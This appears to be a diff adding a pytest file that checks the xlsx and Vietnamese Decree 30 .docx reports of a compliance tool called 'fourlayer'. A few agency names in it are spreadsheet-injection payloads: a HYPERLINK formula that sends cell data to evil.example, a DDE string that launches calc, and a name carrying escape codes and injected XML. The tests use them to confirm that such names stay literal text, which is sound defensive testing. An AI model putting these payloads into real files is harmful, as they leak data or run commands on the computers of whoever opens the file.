@@ -1,0 +1,407 @@
+"""Office documents: the xlsx workbooks and the Decree 30 .docx reports of ``check`` and
+``audit``, read back as a person's tools would open them (openpyxl, python-docx, and
+LibreOffice where installed), and the ``--report-settings`` file."""
+
+from __future__ import annotations
+
+import os
+import shutil
+import subprocess
+import zipfile
+from datetime import date, datetime
+from pathlib import Path
+
+import docx
+import openpyxl
+import pytest
+from docx.shared import Mm
+from generate import write_agencies
+
+from fourlayer.audit import AuditRun, run_audit
+from fourlayer.checklist import load_checklist
+from fourlayer.report_settings import ReportSettings, load_report_settings
+from fourlayer.reporting import audit_docx, audit_xlsx, check_docx, check_xlsx
+from fourlayer.reporting.base import ReportOptions
+from fourlayer.runner import CheckRun, Settings, run_check
+
+AS_OF = date(2026, 10, 15)
+HOSTILE_NAMES = ('=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")', "+1+2", "-SUM(A1:A9)", "@cmd|' /C calc'!A0")
+SETTINGS = ReportSettings(
+    issuing_parent="UBND tỉnh Nghệ An", issuing_body="Sở Khoa học và Công nghệ", symbol="SKHCN", number="125",
+    superior_body="Ủy ban nhân dân tỉnh Nghệ An", place="Nghệ An", date=date(2026, 10, 20),
+    signer_authority="KT. Giám đốc", signer_title="Phó Giám đốc", signer_name="Nguyễn Văn An",
+    recipients=("UBND tỉnh (để b/c)", "Công an tỉnh (để p/h)"), archive="VT, CNTT",
+)
+
+
+def _rename(path: Path, name: str) -> None:
+    text = path.read_text(encoding="utf-8")
+    start = text.index("  name: ") + len("  name: ")
+    end = text.index("\n", start)
+    quoted = '"' + name.replace("\\", "\\\\").replace('"', '\\"') + '"'
+    path.write_text(text[:start] + quoted + text[end:], encoding="utf-8")
+
+
+@pytest.fixture(scope="module")
+def checklist():
+    loaded = load_checklist()
+    assert loaded.checklist is not None
+    return loaded.checklist
+
+
+@pytest.fixture(scope="module")
+def province(tmp_path_factory) -> Path:
+    """60 generated agencies; four of them named like spreadsheet formulas; one broken file."""
+    folder = tmp_path_factory.mktemp("province")
+    files = write_agencies(folder, 60, seed=14)
+    for path, name in zip(files[::15], HOSTILE_NAMES, strict=True):
+        _rename(path, name)
+    (folder / "broken.yaml").write_text("schema_version: 1\nagency: [\n", encoding="utf-8")
+    return folder
+
+
+@pytest.fixture(scope="module")
+def audit_run(province, checklist) -> AuditRun:
+    return run_audit([str(province)], Settings(checklist=checklist, as_of=AS_OF), jobs=1)
+
+
+@pytest.fixture(scope="module")
+def check_run(province, checklist) -> CheckRun:
+    first = sorted(province.rglob("*.yaml"))[1]
+    return run_check([str(first)], Settings(checklist=checklist, as_of=AS_OF))
+
+
+def workbook(data: bytes, tmp_path: Path, name: str = "book.xlsx") -> openpyxl.Workbook:
+    path = tmp_path / name
+    path.write_bytes(data)
+    return openpyxl.load_workbook(path)
+
+
+def sheet_rows(sheet) -> list[dict[str, object]]:
+    rows = list(sheet.iter_rows(values_only=True))
+    return [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]
+
+
+# --- xlsx ------------------------------------------------------------------------------
+def test_audit_workbook_has_every_sheet_a_row_per_agency_and_numbers_as_numbers(audit_run, tmp_path):
+    book = workbook(audit_xlsx.render(audit_run, ReportOptions()), tmp_path)
+    assert book.sheetnames == ["Tổng hợp", "Bốn lớp", "Xếp hạng cơ quan", "Tiêu chí", "Kết quả theo tiêu chí",
+                               "Tệp lỗi"]
+    agencies = sheet_rows(book["Xếp hạng cơ quan"])
+    assert len(agencies) == 60 == len(audit_run.agencies)
+    assert {row["Cơ quan"] for row in agencies} == {row.agency.name for row in audit_run.agencies}
+    by_source = {row.source: row for row in audit_run.agencies}
+    for row in agencies:
+        expected = by_source[str(row["Tệp"])]
+        assert isinstance(row["Điểm"], int | float) and row["Điểm"] == pytest.approx(expected.score)
+        assert isinstance(row["Hạng"], int)
+        assert isinstance(row["Ngày tự đánh giá"], datetime) and row["Ngày tự đánh giá"].date() == expected.assessed_on
+        assert row["Lớp 1 - điểm"] == pytest.approx(expected.layer(1).score)
+    scores = [row["Điểm"] for row in agencies]
+    assert scores == sorted(scores, reverse=True), "ranked, best first"
+    outcomes = sheet_rows(book["Kết quả theo tiêu chí"])
+    assert len(outcomes) == 60 and set(outcomes[0]) >= {"L1.01", "L4.01"}
+    assert {v for row in outcomes for k, v in row.items() if k.startswith("L")} <= {
+        "Đạt", "Đạt một phần", "Không đạt", "Được miễn trừ", "Không áp dụng", None}
+    controls = {row["Tiêu chí"]: row for row in sheet_rows(book["Tiêu chí"])}
+    failing = sum(1 for r in audit_run.agencies if "L1.02" in r.failing)
+    assert controls["L1.02"]["Số cơ quan không đạt"] == failing
+    errors = sheet_rows(book["Tệp lỗi"])
+    assert [(Path(str(e["Tệp"])).name, e["Mã"]) for e in errors] == [("broken.yaml", "yaml-syntax")]
+    assert isinstance(errors[0]["Dòng"], int)
+
+
+def test_no_text_from_an_assessment_becomes_a_formula(audit_run, tmp_path):
+    book = workbook(audit_xlsx.render(audit_run, ReportOptions()), tmp_path)
+    formulas = [c.coordinate for ws in book.worksheets for row in ws.iter_rows() for c in row if c.data_type == "f"]
+    assert formulas == []
+    names = {row["Cơ quan"] for row in sheet_rows(book["Xếp hạng cơ quan"])}
+    assert set(HOSTILE_NAMES) <= names, "kept literally, as text"
+    with zipfile.ZipFile(audit_xlsx_path(audit_run, tmp_path)) as archive:
+        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/sheet")]
+        assert not any(b"<f>" in archive.read(n) for n in sheets)
+
+
+def audit_xlsx_path(run: AuditRun, tmp_path: Path) -> Path:
+    path = tmp_path / "again.xlsx"
+    path.write_bytes(audit_xlsx.render(run, ReportOptions()))
+    return path
+
+
+def test_every_sheet_has_a_frozen_header_a_filter_and_set_widths(audit_run, check_run, tmp_path):
+    for data in (audit_xlsx.render(audit_run, ReportOptions()), check_xlsx.render(check_run, ReportOptions())):
+        book = workbook(data, tmp_path)
+        for sheet in book.worksheets:
+            assert sheet.freeze_panes == "A2", sheet.title
+            assert sheet.auto_filter.ref and sheet.auto_filter.ref.startswith("A1:"), sheet.title
+            assert sheet.column_dimensions["A"].width > 5, sheet.title
+
+
+def test_workbook_headers_follow_the_language(audit_run, check_run, tmp_path):
+    book = workbook(audit_xlsx.render(audit_run, ReportOptions(lang="en")), tmp_path)
+    assert book.sheetnames == ["Summary", "Layers", "Agencies ranked", "Controls", "Outcomes by control",
+                               "Files with errors"]
+    first = sheet_rows(book["Agencies ranked"])[0]
+    assert {"Rank", "Agency", "Score", "Verdict", "Layer 1 status"} <= set(first)
+    assert first["Verdict"] in {"Compliant", "Partially compliant", "Non-compliant"}
+    check = workbook(check_xlsx.render(check_run, ReportOptions(lang="en")), tmp_path)
+    assert check.sheetnames == ["Summary", "Results", "Files with errors"]
+
+
+def test_check_workbook_lists_every_control_and_target(check_run, tmp_path):
+    book = workbook(check_xlsx.render(check_run, ReportOptions()), tmp_path)
+    (item,) = check_run.evaluations
+    results = sheet_rows(book["Kết quả chi tiết"])
+    assert len(results) == len(item.results)
+    assert [(r["Tiêu chí"], r["Kết quả"]) for r in results] == [
+        (p.control, {"pass": "Đạt", "partial": "Đạt một phần", "fail": "Không đạt", "waived": "Được miễn trừ",
+                     "not_applicable": "Không áp dụng"}[p.outcome.value]) for p in item.results]
+    gaps = [r for r in results if r["Kết quả"] == "Không đạt"]
+    assert gaps and all(r["Lý do"] and r["Cần làm"] and r["Căn cứ"] for r in gaps)
+    summary = sheet_rows(book["Tổng hợp"])
+    assert len(summary) == 1 and summary[0]["Điểm"] == pytest.approx(item.score)
+    assert isinstance(summary[0]["Ngày đánh giá"], datetime)
+
+
+def test_the_same_input_gives_the_same_bytes(audit_run, check_run):
+    for render, run in ((audit_xlsx.render, audit_run), (check_xlsx.render, check_run)):
+        assert render(run, ReportOptions()) == render(run, ReportOptions())
+    assert audit_docx.render(audit_run, ReportOptions(), SETTINGS) == audit_docx.render(audit_run, ReportOptions(),
+                                                                                        SETTINGS)
+    data = audit_xlsx.render(audit_run, ReportOptions())
+    with zipfile.ZipFile(__import__("io").BytesIO(data)) as archive:
+        assert {info.date_time for info in archive.infolist()} == {(1980, 1, 1, 0, 0, 0)}
+        core = archive.read("docProps/core.xml").decode()
+    assert "2026-10-15T00:00:00Z" in core and "fourlayer" in core
+
+
+# --- docx ------------------------------------------------------------------------------
+def document(data: bytes, tmp_path: Path, name: str = "report.docx") -> docx.document.Document:
+    path = tmp_path / name
+    path.write_bytes(data)
+    return docx.Document(str(path))
+
+
+def all_text(doc) -> str:
+    parts = [p.text for p in doc.paragraphs]
+    for table in doc.tables:
+        for row in table.rows:
+            parts.extend(cell.text for cell in row.cells)
+    return "\n".join(parts)
+
+
+def assert_decree_30_page(doc) -> None:
+    section = doc.sections[0]
+    assert abs(section.page_width.mm - 210) < 0.1 and abs(section.page_height.mm - 297) < 0.1  # A4, portrait
+    assert Mm(20) <= section.top_margin <= Mm(25) and Mm(20) <= section.bottom_margin <= Mm(25)
+    assert Mm(30) <= section.left_margin <= Mm(35) and Mm(15) <= section.right_margin <= Mm(20)
+    normal = doc.styles["Normal"]
+    assert normal.font.name == "Times New Roman" and 13 <= normal.font.size.pt <= 14
+    fonts = {r.font.name for p in doc.paragraphs for r in p.runs}
+    fonts |= {r.font.name for t in doc.tables for row in t.rows for c in row.cells for p in c.paragraphs
+              for r in p.runs}
+    assert fonts <= {None, "Times New Roman"}
+    styles_xml = doc.styles.element.xml
+    assert "Calibri" not in styles_xml and "Theme=" not in styles_xml.replace("w:themeColor", "")
+
+
+def test_audit_docx_is_a_decree_30_report_listing_every_agency(audit_run, tmp_path):
+    doc = document(audit_docx.render(audit_run, ReportOptions(), SETTINGS), tmp_path)
+    assert_decree_30_page(doc)
+    content = all_text(doc)
+    for expected in ("CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM", "Độc lập - Tự do - Hạnh phúc", "BÁO CÁO", "Nơi nhận:",
+                     "Số: 125/BC-SKHCN", "Nghệ An, ngày 20 tháng 10 năm 2026", "SỞ KHOA HỌC VÀ CÔNG NGHỆ",
+                     "UBND TỈNH NGHỆ AN", "Kính gửi: Ủy ban nhân dân tỉnh Nghệ An.", "KT. GIÁM ĐỐC", "PHÓ GIÁM ĐỐC",
+                     "Nguyễn Văn An", "- UBND tỉnh (để b/c);", "- Lưu: VT, CNTT.", "broken.yaml"):
+        assert expected in content, expected
+    for row in audit_run.agencies:
+        assert row.agency.name in content, row.agency.name
+    motto = next(r for p in doc.tables[0].rows[0].cells[1].paragraphs for r in p.runs if r.text.startswith("Độc"))
+    assert motto.underline and motto.bold
+    title = next(p for p in doc.paragraphs if p.text == "BÁO CÁO")
+    assert title.runs[0].bold and title.alignment == 1  # centred
+
+
+def test_blank_fields_are_left_as_dotted_lines(check_run, tmp_path):
+    doc = document(check_docx.render(check_run, ReportOptions()), tmp_path)
+    content = all_text(doc)
+    assert "Số: …………/BC-…………" in content
+    assert "…………, ngày …… tháng …… năm ……" in content
+    assert "Kính gửi: …………." in content
+    (item,) = check_run.evaluations
+    assert item.agency.name.upper() in content, "the agency issues its own report"
+
+
+def test_check_docx_is_one_agency_s_report_to_its_superior(check_run, tmp_path):
+    doc = document(check_docx.render(check_run, ReportOptions(), SETTINGS), tmp_path)
+    assert_decree_30_page(doc)
+    content = all_text(doc)
+    (item,) = check_run.evaluations
+    for expected in ("Độc lập - Tự do - Hạnh phúc", "BÁO CÁO", "Nơi nhận:", item.agency.name,
+                     "TỒN TẠI, HẠN CHẾ", "KẾ HOẠCH KHẮC PHỤC VÀ ĐỀ XUẤT"):
+        assert expected in content, expected
+    failing = {r.control for r in item.results if r.outcome.value == "fail"}
+    assert failing and all(control in content for control in failing)
+
+
+def test_english_docx_is_a_translation(audit_run, check_run, tmp_path):
+    for data in (audit_docx.render(audit_run, ReportOptions(lang="en"), SETTINGS),
+                 check_docx.render(check_run, ReportOptions(lang="en"), SETTINGS)):
+        content = all_text(document(data, tmp_path))
+        for expected in ("SOCIALIST REPUBLIC OF VIET NAM", "Independence - Freedom - Happiness", "REPORT",
+                         "Recipients:", "No.: 125/BC-SKHCN", "Nghệ An, 20 October 2026"):
+            assert expected in content, expected
+        assert "Nơi nhận" not in content and "Kính gửi" not in content
+
+
+def test_text_from_a_file_cannot_break_the_document(checklist, tmp_path):
+    folder = tmp_path / "hostile"
+    (path,) = write_agencies(folder, 1, seed=3)
+    _rename(path, "Sở \\x1b[31mĐỏ\\u202e <w:p/> & =1+1")
+    run = run_audit([str(folder)], Settings(checklist=checklist, as_of=AS_OF), jobs=1)
+    content = all_text(document(audit_docx.render(run, ReportOptions()), tmp_path))
+    assert "Sở \\x1b[31mĐỏ\\u202e <w:p/> & =1+1" in content
+
+
+# --- the settings file -------------------------------------------------------------------
+def test_settings_from_yaml_and_toml_agree(tmp_path):
+    yaml_file = tmp_path / "bao-cao.yaml"
+    yaml_file.write_text(
+        'issuing_body: "Sở Khoa học và Công nghệ"\nsymbol: SKHCN\nnumber: 125\nplace: "Nghệ An"\n'
+        "date: 2026-10-20\nrecipients:\n  - UBND tỉnh\n  - Công an tỉnh\n", encoding="utf-8")
+    toml_file = tmp_path / "bao-cao.toml"
+    toml_file.write_text(
+        'issuing_body = "Sở Khoa học và Công nghệ"\nsymbol = "SKHCN"\nnumber = 125\nplace = "Nghệ An"\n'
+        'date = 2026-10-20\nrecipients = ["UBND tỉnh", "Công an tỉnh"]\n', encoding="utf-8")
+    loaded = [load_report_settings(str(f)) for f in (yaml_file, toml_file)]
+    assert [item.findings for item in loaded] == [(), ()]
+    assert loaded[0].settings == loaded[1].settings == ReportSettings(
+        issuing_body="Sở Khoa học và Công nghệ", symbol="SKHCN", number="125", place="Nghệ An",
+        date=date(2026, 10, 20), recipients=("UBND tỉnh", "Công an tỉnh"))
+    merged = loaded[0].settings.merged(place="Hà Tĩnh", signer_name=None, recipients=())
+    assert merged.place == "Hà Tĩnh" and merged.recipients == ("UBND tỉnh", "Công an tỉnh")
+
+
+@pytest.mark.parametrize(("name", "text", "expected"), [
+    ("typo.yaml", "issuing_body: X\nsigner_nmae: Y\n", [(2, 1, "settings-unknown-key")]),
+    ("date.yaml", "place: X\ndate: 20/10/2026\n", [(2, 7, "settings-bad-date")]),
+    ("list.yaml", "recipients: {a: 1}\n", [(1, 13, "settings-not-list")]),
+    ("text.yaml", "number: [1, 2]\nplace: true\n", [(1, 9, "settings-not-text"), (2, 8, "settings-not-text")]),
+    ("syntax.yaml", "place: [\n", None),
+    ("typo.toml", 'place = "X"\nsigner_nmae = "Y"\n', [(2, 1, "settings-unknown-key")]),
+    ("syntax.toml", 'place = "X\n', [(1, None, "settings-syntax")]),
+    ("date.toml", 'date = "hôm nay"\n', [(1, 1, "settings-bad-date")]),
+])
+def test_settings_file_errors_are_located(tmp_path, name, text, expected):
+    path = tmp_path / name
+    path.write_text(text, encoding="utf-8")
+    loaded = load_report_settings(str(path))
+    assert loaded.settings is None and loaded.findings
+    if expected is not None:
+        got = [(f.line, f.column if expected[i][1] is not None else None, f.code)
+               for i, f in enumerate(loaded.findings)]
+        assert got == expected
+    assert all(f.path == str(path) and f.line is not None for f in loaded.findings)
+    assert all(f.message("vi") and f.message("en") for f in loaded.findings)
+
+
+def test_unknown_setting_suggests_the_right_one(tmp_path):
+    path = tmp_path / "s.yaml"
+    path.write_text("signer_nmae: Y\n", encoding="utf-8")
+    (problem,) = load_report_settings(str(path)).findings
+    assert problem.hint("vi") == 'Có phải ý là "signer_name"?'
+
+
+# --- LibreOffice: the files open in the office suite users have ------------------------------
+def soffice() -> str:
+    found = shutil.which("soffice")
+    if found is None:
+        if os.environ.get("CI") == "true":
+            pytest.fail("soffice (LibreOffice) is required on CI: install libreoffice-writer-nogui/-calc-nogui")
+        pytest.skip("soffice (LibreOffice) is not installed")
+    return found
+
+
+def convert(program: str, files: list[Path], target: str, out: Path, profile: Path) -> None:
+    subprocess.run([program, f"-env:UserInstallation=file://{profile}", "--headless", "--convert-to", target,
+                    "--outdir", str(out), *map(str, files)], check=True, capture_output=True, timeout=240)
+
+
+def test_libreoffice_reads_the_audit_workbook(audit_run, tmp_path):
+    program = soffice()
+    path = tmp_path / "ra-soat.xlsx"
+    path.write_bytes(audit_xlsx.render(audit_run, ReportOptions()))
+    # UTF-8 CSV of the third sheet (agencies ranked): separator, quote, charset, first line, …, sheet
+    convert(program, [path], "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,3",
+            tmp_path / "out", tmp_path / "profile")
+    (csv_file,) = (tmp_path / "out").glob("*.csv")
+    import csv
+
+    rows = list(csv.DictReader(csv_file.read_text(encoding="utf-8").splitlines()))
+    assert len(rows) == 60
+    assert {r["Cơ quan"] for r in rows} == {r.agency.name for r in audit_run.agencies}
+    hyperlink = next(r for r in rows if r["Cơ quan"].startswith("=HYPERLINK"))
+    assert hyperlink["Cơ quan"] == HOSTILE_NAMES[0], "shown as typed, not run"
+    assert all(float(r["Điểm"]) >= 0 for r in rows)
+
+
+def test_libreoffice_turns_both_reports_into_pdf(audit_run, check_run, tmp_path):
+    program = soffice()
+    files = [tmp_path / "ra-soat.docx", tmp_path / "tu-danh-gia.docx"]
+    files[0].write_bytes(audit_docx.render(audit_run, ReportOptions(), SETTINGS))
+    files[1].write_bytes(check_docx.render(check_run, ReportOptions()))
+    convert(program, files, "pdf", tmp_path / "out", tmp_path / "profile")
+    for name in ("ra-soat", "tu-danh-gia"):
+        pdf = tmp_path / "out" / f"{name}.pdf"
+        assert pdf.read_bytes().startswith(b"%PDF")
+        if shutil.which("pdftotext"):
+            first = subprocess.run(["pdftotext", "-l", "1", str(pdf), "-"], capture_output=True, check=True,
+                                   text=True).stdout
+            assert "CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM" in first and "BÁO CÁO" in first
+        if shutil.which("pdfinfo"):
+            info = subprocess.run(["pdfinfo", str(pdf)], capture_output=True, check=True, text=True).stdout
+            assert "pts (A4)" in info
+        if shutil.which("pdftoppm"):  # the first page as a picture (docs/reports.md shows one)
+            subprocess.run(["pdftoppm", "-png", "-r", "40", "-f", "1", "-l", "1", "-singlefile", str(pdf),
+                            str(tmp_path / name)], check=True, capture_output=True, timeout=60)
+            assert (tmp_path / f"{name}.png").read_bytes().startswith(b"\x89PNG")
+
+
+# --- writing bytes ---------------------------------------------------------------------------
+def _write_bytes_with_stdout(stdout) -> subprocess.CompletedProcess[str]:
+    code = ("import sys\nfrom fourlayer.output import OutputError, write_report\n"
+            "try:\n    write_report(b'PK\\x03\\x04 binary', None)\n"
+            "except OutputError as error:\n    sys.stderr.write(error.key)\n    sys.exit(2)\n")
+    import sys
+
+    return subprocess.run([sys.executable, "-c", code], stdout=stdout, stderr=subprocess.PIPE, text=True,
+                          timeout=60, check=False)
+
+
+def test_bytes_are_never_written_to_a_terminal():
+    import pty
+
+    leader, follower = pty.openpty()
+    try:
+        done = _write_bytes_with_stdout(follower)
+    finally:
+        os.close(follower)
+        os.close(leader)
+    assert (done.returncode, done.stderr) == (2, "output.binary-to-terminal")
+    redirected = _write_bytes_with_stdout(subprocess.PIPE)
+    assert redirected.returncode == 0 and redirected.stdout == "PK\x03\x04 binary"
+
+
+def test_bytes_are_written_atomically_and_never_over_an_input(tmp_path):
+    from fourlayer.output import OutputError, write_report
+
+    target = tmp_path / "bao-cao.xlsx"
+    target.write_bytes(b"old")
+    write_report(b"PK\x03\x04new", str(target), [])
+    assert target.read_bytes() == b"PK\x03\x04new"
+    assert sorted(p.name for p in tmp_path.iterdir()) == ["bao-cao.xlsx"], "no temporary file left"
+    source = tmp_path / "agency.yaml"
+    source.write_text("x: 1\n", encoding="utf-8")
+    with pytest.raises(OutputError) as refused:
+        write_report(b"PK", str(source), [str(source)])
+    assert refused.value.key == "output.is-input" and source.read_text(encoding="utf-8") == "x: 1\n"
